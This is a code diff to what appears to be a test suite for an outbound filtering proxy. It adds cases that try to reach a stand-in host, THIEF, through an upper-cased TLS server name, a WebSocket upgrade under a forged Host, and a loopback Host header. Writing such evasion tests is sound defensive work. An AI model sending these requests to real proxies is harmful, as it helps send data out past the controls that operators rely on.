@@ -97,6 +97,19 @@ def post(target: str, host: str) -> bytes:
     return f"{head}Content-Length: {len(BODY)}\r\n\r\n".encode() + BODY
 
 
+def upgrade(target: str, host: str) -> bytes:
+    fields = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13"
+    key = "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
+    return f"GET {target} HTTP/1.1\r\nHost: {host}\r\n{fields}\r\n{key}\r\n\r\n".encode()
+
+
+def begun(proxy: Proxy, request: bytes) -> bytes:
+    """The beginning of the answer to bytes that are sent to the proxy."""
+    with socket.create_connection(("127.0.0.1", proxy.process.port), PATIENCE) as wire:
+        wire.sendall(request)
+        return wire.recv(65536)
+
+
 def exchange(proxy: Proxy, request: bytes, *, connect: str | None = None, sni: str | None = None) -> bytes:
     """The answer to bytes that are sent to the proxy (with `sni`: in TLS), or in a tunnel through it (the same)."""
     with socket.create_connection(("127.0.0.1", proxy.process.port), PATIENCE) as wire:
@@ -176,6 +189,15 @@ ATTACKS: dict[str, Attack] = {
     "TLS with the proxy, plain HTTP to an address": lambda proxy, _: exchange(
         proxy, post(f"http://{THIEF}{PATH}", NAME), sni=NAME
     ),
+    "TLS to an address, under the server's name in capitals": lambda proxy, _: exchange(
+        proxy, post(PATH, f"{NAME}."), connect=f"{THIEF}:443", sni=NAME.upper()
+    ),
+    "an upgrade to a WebSocket at an address, under a forged Host": lambda proxy, _: begun(
+        proxy, upgrade(f"http://{THIEF}/v1/realtime?model=m", "127.0.0.1")
+    ),
+    "plain HTTP to an address, under a loopback Host with a port": lambda proxy, _: exchange(
+        proxy, post(f"http://{THIEF}:80{PATH}", "localhost:80")
+    ),
     "Helicone's name, forged over an address": lambda proxy, _: exchange(
         proxy, post(PATH, "oai.helicone.ai"), connect=f"{CORP}:443", sni="oai.helicone.ai"
     ),
@@ -184,6 +206,7 @@ ATTACKS: dict[str, Attack] = {
     ),
 }
 NEVER_CONNECTED = {
+    "TLS to an address, under the server's name in capitals",
     "TLS to an address, under a forged server name",
     "Helicone's name, forged over an address",
 }
